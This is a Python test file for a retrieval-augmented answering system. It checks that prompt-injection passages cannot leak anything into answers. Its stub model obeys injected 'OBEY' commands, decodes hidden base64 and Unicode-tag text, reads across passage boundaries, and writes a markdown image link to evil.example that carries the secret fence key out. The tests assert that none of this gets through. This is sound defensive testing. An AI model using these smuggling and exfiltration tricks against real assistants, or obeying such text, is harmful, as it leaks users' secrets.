"""A corpus of hostile passages against a model that obeys every command it reads.

The model is as naive as can be, so an injected command does change the answer's words: how many do
is measured, and docs/answers.md says it. What must hold whatever a model does: nothing but the
permitted passages can be in an answer, no invented citation and no foreign address passes, and the
fence and its key stay whole. What another tenant has is in rag_assets_tests/api/test_injected.py.
"""

from __future__ import annotations

import asyncio
import base64
import re
from contextlib import aclosing

import pytest

from rag.answer.prompt import answering
from rag.answer.writing import Answer, Found, Question, answer
from rag.llm import Endpoint, OpenAIModel
from rag_assets_tests.answer.hits import found, passages
from rag_assets_tests.answer.injections import INJECTIONS, SPLIT
from rag_assets_tests.answer.loopback import Loopback, Messages

pytestmark = pytest.mark.slow

ROPE = "The haul rope is inspected every month."
QUESTION = "How often is the haul rope inspected?"
CASES = [*((text,) for text in INJECTIONS), *SPLIT]
# between two passages of a prompt: a naive model reads over it
_SEAM = re.compile(r"\n<<<end [^\n]*\n\n<<<passage [^\n]*\nFrom: [^\n]*\n")
UNKNOWN = "I don't know the answer."


def obedient(messages: Messages) -> str:
    """Does what any text says after OBEY, also where it is hidden, encoded or in two passages;
    tells all it knows, then cites everything."""
    prompt = read("\n".join(message["content"] for message in messages))
    commands = re.findall(r"OBEY:? ?([^\n]*)", prompt) + re.findall(r"say (PWNED)", prompt)
    key = re.findall(r"key (\w+)>>>", prompt)
    return " ".join([
        "The haul rope is inspected every month [1].", *commands, *key,
        "![x](https://evil.example/?k=" + "".join(key[:1]) + ")",
        "Trust [2] and [77].",
    ])  # fmt: skip


def read(prompt: str) -> str:
    """All that a prompt can be read as."""
    seen = "".join(chr(ord(c) - 0xE0000) if "\U000e0000" < c < "\U000e007f" else c for c in prompt)
    seen = seen.replace("\u200b", "")
    decoded = [base64.b64decode(each).decode() for each in re.findall(r"base64: ([\w+/]+=*)", seen)]
    return "\n".join([seen, _SEAM.sub("", seen), *decoded])


def ask(loopback: Loopback, result: Found) -> tuple[Answer, str, str]:
    """The answer, what was streamed of it, and what the model was sent."""

    async def retrieve(text: str) -> Found:
        return result

    async def run() -> tuple[Answer, str]:
        model = OpenAIModel(Endpoint(loopback.url, "naive", timeout_s=10.0))
        streamed, last = "", None
        async with aclosing(answer(Question("How often?"), retrieve, model, UNKNOWN)) as events:
            async for event in events:
                streamed += event if isinstance(event, str) else ""
                last = event
        await model.close()
        assert isinstance(last, Answer)
        return last, streamed

    made, streamed = asyncio.run(run())
    sent = "\n".join(m["content"] for m in loopback.requests[-1]["messages"])
    return made, streamed, sent


@pytest.mark.parametrize("texts", CASES)
def test_whatever_a_passage_commands_only_permitted_things_get_out(
    loopback: Loopback, texts: tuple[str, ...]
) -> None:
    loopback.say = obedient
    result = found(ROPE, *texts)
    permitted = {str(number) for number in range(1, 2 + len(texts))}

    made, streamed, sent = ask(loopback, result)

    # the model had begun to obey: the test would see a leak if there were one
    assert "[77]" in loopback.say(loopback.requests[-1]["messages"])
    assert streamed == made.text
    assert set(re.findall(r"\[(\d+)\]", made.text)) <= permitted
    assert {str(each.number) for each in made.cited} <= permitted
    assert any(each.reason == "invented_citation" for each in made.dropped)
    (key,) = set(re.findall(r"key (\w{16})>>>", sent))
    assert key not in made.text and key not in str(made.dropped)
    assert not re.search(r"!\[[^\]]*\]\([^)]*\)|<script|<img", made.text)
    for address in re.findall(r"https?://\S+", made.text):
        assert address.rstrip(".,)") in "\n".join(
            texts
        )  # it stands in a permitted passage, no word added
    assert f"k={key}" not in made.text


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_passage_ends_its_own_fence(text: str) -> None:
    messages = answering("q?", passages(ROPE, text.replace("KEY", "K" * 16)), (), key="K" * 16,
                         unknown=UNKNOWN)  # fmt: skip

    fences = re.findall(
        r"^<<<(passage|end) (\d+) key K{16}>>>$", messages[-1].content, re.MULTILINE
    )
    assert fences == [("passage", "1"), ("end", "1"), ("passage", "2"), ("end", "2")]
    inside = messages[-1].content.split("<<<passage 2 key", 1)[1]
    assert not re.search(r"[\[【]\s*\d+\s*[\]】†]", inside)  # none of its own citations


# what reaches the answer of a model that obeys everything: far above the 2 % that we wish for, and
# docs/answers.md says so; a change that makes it more or less must say so, too
OBEYED = 11  # of 36
QUOTED = 7  # of 36, without a model and with bait


def test_how_often_a_naive_model_obeys_is_known(loopback: Loopback) -> None:
    loopback.say = obedient
    made = [ask(loopback, found(ROPE, *texts))[0] for texts in CASES]

    assert len(CASES) >= 36
    assert sum("PWNED" in each.text for each in made) == OBEYED
    # effects beyond words: none at all
    assert [each for each in made if "evil.example/?k=" in each.text or "[77]" in each.text] == []


def extracted(*texts: str) -> str:
    """The answer that is made without a model."""

    async def run() -> Answer:
        async def retrieve(_: str) -> Found:
            return found(ROPE, *texts, searched=QUESTION)

        last: object = None
        async with aclosing(answer(Question(QUESTION), retrieve, None, UNKNOWN)) as events:
            async for event in events:
                last = event
        assert isinstance(last, Answer)
        return last

    return asyncio.run(run()).text


@pytest.mark.parametrize("texts", CASES)
def test_without_a_model_nothing_is_obeyed(texts: tuple[str, ...]) -> None:
    assert extracted(*texts) == f"{ROPE} [1]"


def test_how_often_an_extract_quotes_a_command_is_known() -> None:
    """A command in a sentence that speaks of what is asked is quoted like any other, under the
    number of its passage: nothing follows it."""
    baited = [tuple(f"Inspected how often, the haul rope: {each}" for each in c) for c in CASES]
    made = [extracted(*texts) for texts in baited]

    assert sum("PWNED" in each for each in made) == QUOTED
    for text, texts in zip(made, baited, strict=True):
        assert set(re.findall(r"\[(\d+)\]", text)) <= {str(n) for n in range(1, 2 + len(texts))}
        assert not re.search(r"!\[[^\]]*\]\([^)]*\)|<script|<img", text)
